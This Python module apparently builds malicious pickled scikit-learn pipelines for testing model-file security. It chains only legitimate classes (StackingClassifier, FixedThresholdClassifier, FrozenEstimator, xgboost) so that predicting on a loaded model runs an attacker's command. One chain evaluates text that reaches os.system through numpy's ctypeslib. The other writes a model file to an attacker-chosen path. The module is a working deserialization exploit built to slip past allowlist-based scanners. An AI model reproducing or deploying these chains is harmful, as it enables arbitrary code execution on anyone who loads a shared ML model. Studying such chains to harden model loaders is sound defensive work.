"""Pipelines of honest classes that act once they predict, by what each step hands to the next.

Like `hostile_models`; each is proved to act where it is loaded by plain joblib and asked.
"""

import pickle
from collections.abc import Callable
from typing import Any

import numpy as np
import pandas as pd
import xgboost
from sklearn.dummy import DummyClassifier
from sklearn.ensemble import StackingClassifier
from sklearn.frozen import FrozenEstimator
from sklearn.metrics._scorer import _PassthroughScorer
from sklearn.model_selection import FixedThresholdClassifier
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer

Attack = Callable[[str], bytes]

ROWS = np.array([[0.0, 1.0, 2.0], [3.0, 4.0, 5.0]])
_CLASSES = [0, 1]
_EVALUATED = "@np.ctypeslib._ctypeslib.os.system({!r})"
_NEVER_ABOVE = pd.Index([1.0])  # what is compared with it is not above it, nothing least of all


def _answer() -> DummyClassifier:
    return DummyClassifier().fit(ROWS, _CLASSES)


def _handed(value: object) -> tuple[Any, ...]:
    """Make steps that hand *value* on, whatever row they are given."""
    array = np.empty(1, dtype=object)
    array[0] = value
    constant = DummyClassifier(strategy="constant", constant="x").fit(ROWS, ["x", "x"])
    constant.constant = constant.classes_ = array
    alone = FunctionTransformer(np.sum)  # of one object: that object
    return alone, FunctionTransformer(np.ravel), _given(constant), alone


def _given(model: object) -> Any:
    stacked = StackingClassifier([("a", _answer())], _answer(), cv="prefit").fit(ROWS, _CLASSES)
    stacked.estimators_, stacked.stack_method_ = [model], ["predict"]
    return stacked


def _called(method: str, argument: object) -> tuple[Any, Any]:
    """Make two steps that call a method of the classifier before them by a threshold's score."""
    names = {"response_method": method, "threshold": _NEVER_ABOVE}
    return (
        FunctionTransformer(FixedThresholdClassifier, kw_args=names),
        FunctionTransformer(_PassthroughScorer(None), kw_args={"X": argument, "y": [1]}),
    )


def _evaluates(command: str) -> bytes:
    """Have a threshold set a classifier's state, which then evaluates text by a frame."""
    target = _given(_answer())
    estimator = FrozenEstimator(pd.DataFrame({"a": [1]}))
    state = {"stack_method_": ["eval"], "estimators_": [estimator]}
    return pickle.dumps(
        make_pipeline(
            *_handed(target), *_called("__setstate__", state),
            *_handed(_EVALUATED.format(command)), target,
        )
    )  # fmt: skip


def _saves(command: str) -> bytes:
    """Have a threshold save a booster under a name of the file's choice."""
    booster = xgboost.XGBClassifier(n_estimators=1).fit(ROWS, _CLASSES)
    path = command.rpartition(" ")[2]
    steps = *_handed(booster), *_called("save_model", path)
    return pickle.dumps(make_pipeline(*steps, _answer()))


CHAINS: dict[str, Attack] = {
    "a threshold that sets a state": _evaluates,
    "a threshold that saves a booster": _saves,
}
